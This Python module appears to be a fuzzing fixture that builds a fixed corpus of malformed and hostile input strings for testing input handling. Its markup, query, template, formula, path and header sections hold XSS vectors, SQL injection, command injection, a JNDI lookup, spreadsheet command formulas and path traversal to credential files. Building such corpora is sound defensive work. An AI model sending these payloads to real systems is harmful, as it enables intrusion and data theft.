"""Texts that people should not send and somebody will: made here by kind, the same every time.

`NAUGHTY` holds them by kind; `sample(n)` takes some of every kind, and `ENDLESS` is a million characters long.
"""

from __future__ import annotations

import itertools
import random
import unicodedata

CANARY = "kanarie"
"""Stands in what would run, so that a test sees whether it came out raw."""


def _controls() -> list[str]:
    ends = [*range(0x20), *range(0x7F, 0xA0)]
    return [f"a{chr(c)}b" for c in ends] + [
        "\0",
        "\0" * 300,
        "\x1b[2J\x1b[31mrood",
        "\x1b]0;titel\x07",
        "\b\b\b",
        "\r",
    ]


def _halves() -> list[str]:
    return ["\ud800", "\udfff", "x\ud83dy", "\ude00\ud83d", "\udc80" * 20, "\udbff end", "naam\udcff.pdf"]


def _no_characters() -> list[str]:
    planes = [chr(plane * 0x10000 + end) for plane in range(17) for end in (0xFFFE, 0xFFFF)]
    return [*planes, "\ufdd0", "\ufdef", "\ue000", "\U000f0000", "\u0378", "\ufffd\ufffc\ufff9"]


def _directions() -> list[str]:
    marks = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return [f"prijs{m}fdp.exe" for m in marks] + [
        "\u202e" * 50,
        "مرحبا \u2067abc\u2069 بالعالم",
        "שלום 123 עולם",
    ]


def _invisible() -> list[str]:
    marks = "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u206a\u3164\ufe0f\uffa0\ufeff"
    return [
        *marks,
        *(f"a{m}b" for m in marks),
        "\u200b" * 1000,
        "\ufeffBOM",
        "\U000e0041\U000e0042\U000e007f",
    ]


def _spaces() -> list[str]:
    marks = "\t\n\v\f \u0085\u00a0\u1680\u2000\u2003\u2007\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
    return ["", *marks, *(f"een{m}twee" for m in marks), "\r\n" * 200, " " * 5000]


def _pictures() -> list[str]:
    family = "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
    toned = [f"\U0001f44d{chr(tone)}" for tone in range(0x1F3FB, 0x1F400)]
    flags = [
        "\U0001f1f3\U0001f1f1",
        "\U0001f1f3",
        "\U0001f3f3\ufe0f\u200d\U0001f308",
        "\U0001f1f3\U0001f1f1" * 99,
    ]
    return [
        family,
        family * 60,
        *toned,
        *flags,
        "1\ufe0f\u20e3",
        "\u2764\ufe0f\u200d\U0001f525",
        "\U0001faf8\U0001fae9",
    ]


def _towers() -> list[str]:
    marks = [chr(c) for c in range(0x300, 0x370) if unicodedata.category(chr(c)) == "Mn"]
    tower = "Z" + "".join(marks)
    return [
        tower,
        tower * 20,
        "\u0301",
        "e\u0301" * 900,
        "\u0489a",
        "\u0e33" * 200,
        "\u1112\u1161\u11ab",
        "ﷺ" * 300,
    ]


def _scripts_of_the_world() -> list[str]:
    return [
        "漢字かな交じり文", "ภาษาไทย", "हिन्दी", "ქართული", "አማርኛ", "עברית", "العربية", "Ελληνικά", "Кириллица", "བོད་སྐད",
        "İstanbul ıi", "ŻÓŁĆ", "ĳsland", "ß ẞ ſt ﬁ", "Ǆ ǅ", "𝕳𝖊𝖑𝖑𝖔", "Ｆｕｌｌ", "ⓐⓑⓒ", "аdmin", "pаypаl", "ｓｃｒ",
        "æøå ÆØÅ", "Ünïcödé", "naïve café", "‘’“”„…–—", "¡¿«»€™", "½¼¾ ²³", "ℵ∞∑√", "𓀀𓂀", "🂡♠", "\U0001d11e",
    ]  # fmt: skip


def _markup() -> list[str]:
    run = f"alert('{CANARY}')"
    tags = [
        "script",
        "img",
        "svg",
        "iframe",
        "body",
        "input",
        "details",
        "video",
        "math",
        "object",
        "style",
        "template",
    ]
    events = ["onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onanimationstart"]
    made = [f"<{tag} {event}={run} src=x autofocus open>" for tag, event in itertools.product(tags, events)]
    return [
        *made, f"<script>{run}</script>", f"</title><script>{run}</script>", f"</textarea><script>{run}</script>",
        f'"><script>{run}</script>', f"'><script>{run}</script>", f"--><script>{run}</script>", f"]]><script>{run}",
        f'" onmouseover="{run}', f"' autofocus onfocus='{run}", f"` onload=`{run}", f"javascript:{run}",
        f"JaVaScRiPt:{run}", f"java\tscript:{run}", f"data:text/html,<script>{run}</script>", f"vbscript:{run}",
        f"<a href=javascript:{run}>x</a>", f"[x](javascript:{run})", f"![x](x){{onerror={run}}}",
        f"<scr<script>ipt>{run}", f"<SCRIPT\n>{run}</SCRIPT\n>", f"%3Cscript%3E{run}", f"&lt;script&gt;{run}",
        f"&#60;script&#62;{run}", f"\\u003cscript\\u003e{run}", f"\\x3cscript\\x3e{run}",
        f"<meta http-equiv=refresh content=0;javascript:{run}>", f"<base href='//{CANARY}.example/'>",
        f"<link rel=stylesheet href=//{CANARY}.example/x>", "<!--", "-->", "<![CDATA[", "<?xml version='1.0'?>",
        "<!DOCTYPE html>", "</html>", "</form>", "</main></body>", "<plaintext>", "<xmp>", "&", "&amp;",
        "&amp;amp;", "&#0;", "&#x110000;", "&nbsp", "<", ">", "<>", "< script >", "'", '"', "`",
        "<svg><style><img src=x>", f"<math><mtext><table><mglyph><style><img src=x onerror={run}>",
        f"<form><button formaction=javascript:{run}>",
    ]  # fmt: skip


def _queries() -> list[str]:
    return [
        "'; DROP TABLE people; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT 1",
        "') UNION SELECT * FROM people --", "admin'--", "/*", "*/", "%", "_", "\\'", "1/0",
        "x' AND 1=(SELECT COUNT(*) FROM tenders); --", "$1", ":name", "?", "' || (SELECT key FROM x) || '", "0x27",
        "';PRAGMA foreign_keys=OFF;--", "'; ATTACH 'x.db' AS x;--", "$$", "E'\\x00'",
    ]  # fmt: skip


def _templates() -> list[str]:
    return [
        "{{7*7}}", "{{config}}", "{% for x in y %}", "{#", "{{ ''.__class__.__mro__ }}", "{%raw%}", "${7*7}",
        "#{7*7}", "<%= 7*7 %>", "{0}", "{}", "{name}", "{vendor}", "{0.__class__}", "{", "}", "{{", "}}",
        "{0!r:>999999999}", "%s%n", "%(x)s", "%d", "%", "%%", "%999999999s", "$name", "${jndi:ldap://x.example/a}",
        "$(id)", "`id`", "; id", "| id", "&& id", "@{x}", "*{7*7}", "{nl}", "{n}", "{most}", "{label}",
        "{problems}", "__proto__", "constructor", "toString", "__class__", "self", "None",
    ]  # fmt: skip


def _formulas() -> list[str]:
    starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'="]
    calls = ["1+1", "cmd|'/c calc'!A1", 'HYPERLINK("http://x.example","y")', "SUM(1)*9"]
    return [s + c for s, c in itertools.product(starts, calls)] + [
        "a,b",
        'a","b',
        "a;b",
        '"',
        '""',
        "sep=;",
        "a\tb",
    ]


def _paths() -> list[str]:
    return [
        "../../etc/passwd", "..\\..\\win.ini", "/etc/passwd", "C:\\con", "con", "nul.txt", "aux.pdf",
        "file:///etc/passwd", ".", "..", "...", ".htaccess", "~", "~root", "a/../b", "%2e%2e%2f", "..%c0%af",
        "\\\\server\\deel", "a:b", "a*b?", "naam.", " naam ", ".pdf", "-rf", "--help", "a" * 300 + ".pdf",
        "//evil.example", "https:evil", "http://169.254.169.254/", "a\0.pdf", "%00.pdf",
    ]  # fmt: skip


def _headers() -> list[str]:
    ends = ["\r\n", "\n", "\r", "\u2028", "\u0085", "%0d%0a", "\\r\\n", "\v"]
    return [
        f"x{end}{rest}"
        for end, rest in itertools.product(ends, ("Bcc: x@evil.example", "Set-Cookie: a=b", "\r\n<html>"))
    ]


def _logs() -> list[str]:
    return [
        "x\n2026-01-01 INFO tender_opened by inge",
        'x","action":"tender_opened","x":"',
        "\x1b[1A\x1b[2Kweg",
        "x\r[ok] alles goed",
    ]


def _numbers() -> list[str]:
    return [
        "0", "-0", "00", "-1", "1e309", "-1e309", "1e-400", "NaN", "nan", "Infinity", "-inf", "0x41", "0b1", "0o7",
        "1_000", "1.000", "1,000", "1.000,00", "1,000.00", "1.2.3", "1,2,3", ",5", ".5", "5,", "5.", "+5", "--5",
        "1e5", "1E5", "²", "½", "Ⅻ", "١٢٣", "१२३", "１２３", "𝟏𝟐𝟑", "൧൨", "五", "9" * 30, "9" * 5000, "-" + "9" * 400,
        "1 000", "1\u00a0000", "1\u202f000", "1'000", "2147483648", "9223372036854775808", "1.7976931348623157e309",
        "0." + "0" * 400 + "1", "1/3", "50%", "€ 5", "#", "true", "false", "null", "undefined", "[]", "{}",
        "[[[[]]]]", '{"a":1}',
    ]  # fmt: skip


def _dates() -> list[str]:
    return [
        "0-0-0", "31-2-2026", "29-2-2025", "30-02-2026", "1-13-2026", "32-1-2026", "1-1-0", "1-1-0000", "1-1-1",
        "1-1-99", "1-1-9999", "1-1-10000", "31-12-9999", "1-1-275760", "2026-01-01", "2026-13-45", "01/02/2026",
        "1.1.2026", "٠١-٠١-٢٠٢٦", "１-１-２０２６", "24:00", "23:59:60", "25:00", "-1:00", "2:30", "02:00", "99:99",
        "1-1-2026T00:00Z", "1 januari 2026", "vandaag", "29-3-2026", "1-1--2026", "١-١-٢٠٢٦", "²-1-2026",
    ]  # fmt: skip


def _lengths() -> list[str]:
    return ["x" * n for n in (199, 200, 201, 254, 300, 3999, 4000, 4001, 32_767, 32_768, 70_000)] + [
        "W" * 9000, "lang woord " * 2000, "regel\n" * 5000, "<b>" * 5000, "é" * 40_000, "\U0001f600" * 20_000,
    ]  # fmt: skip


def _mixed() -> list[str]:
    """Drawn from the whole of Unicode, by a die that always falls the same way."""
    die = random.Random(20261123)
    return ["".join(chr(die.randrange(0x110000)) for _ in range(die.randrange(1, 40))) for _ in range(60)]


NAUGHTY: dict[str, tuple[str, ...]] = {
    made.__name__.lstrip("_"): tuple(dict.fromkeys(made()))
    for made in (
        _controls, _halves, _no_characters, _directions, _invisible, _spaces, _pictures, _towers, _scripts_of_the_world,
        _markup, _queries, _templates, _formulas, _paths, _headers, _logs, _numbers, _dates, _lengths, _mixed,
    )
}  # fmt: skip

ENDLESS = "m" * 1_000_000
ALL: tuple[str, ...] = tuple(dict.fromkeys(itertools.chain.from_iterable(NAUGHTY.values())))


def sample(n: int, seed: int = 0) -> list[str]:
    """`n` of them, every kind in turn, the same for the same seed."""
    die = random.Random(seed)
    kinds = [die.sample(texts, len(texts)) for texts in NAUGHTY.values()]
    mixed = [text for row in itertools.zip_longest(*kinds) for text in row if text is not None]
    return list(itertools.islice(itertools.cycle(mixed), n))


def as_bytes(text: str) -> bytes:
    """As a browser, or somebody who is none, puts it on the line: halves of characters too."""
    return text.encode("utf-8", "surrogatepass")
